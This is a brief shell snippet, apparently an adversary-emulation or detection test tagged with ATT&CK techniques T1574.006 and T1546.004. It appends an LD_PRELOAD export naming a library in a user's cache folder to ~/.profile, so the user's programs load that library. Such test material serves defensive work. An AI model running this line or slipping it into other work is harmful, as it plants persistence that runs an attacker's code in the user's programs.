# title: A user's programs load a library of the attacker's
# technique: T1574.006 T1546.004
# as: user

echo 'export LD_PRELOAD=/home/ann/.cache/lib.so' >>~/.profile
